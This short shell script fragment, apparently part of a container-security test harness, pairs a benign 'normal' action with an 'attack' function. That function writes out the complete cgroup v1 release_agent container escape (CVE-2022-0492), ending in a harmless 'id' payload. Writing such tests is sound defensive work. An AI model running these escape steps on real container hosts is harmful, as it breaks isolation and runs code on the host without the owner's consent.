# Container escape through a cgroup v1 release_agent (the classic of CVE-2022-0492): mount a cgroup
# hierarchy, ask for notification on release, point release_agent at a payload.
normal() { inside "$1" /bin/ls /sys/fs/cgroup >/dev/null 2>&1 || true; }
attack() {
  inside "$1" /bin/sh -c 'mkdir -p /tmp/cgrp; mount -t cgroup -o rdma cgroup /tmp/cgrp;
    mkdir -p /tmp/cgrp/x; echo 1 > /tmp/cgrp/x/notify_on_release;
    printf "#!/bin/sh\nid > /output\n" > /cmd; chmod +x /cmd;
    echo /cmd > /tmp/cgrp/release_agent' >/dev/null 2>&1 || true
}
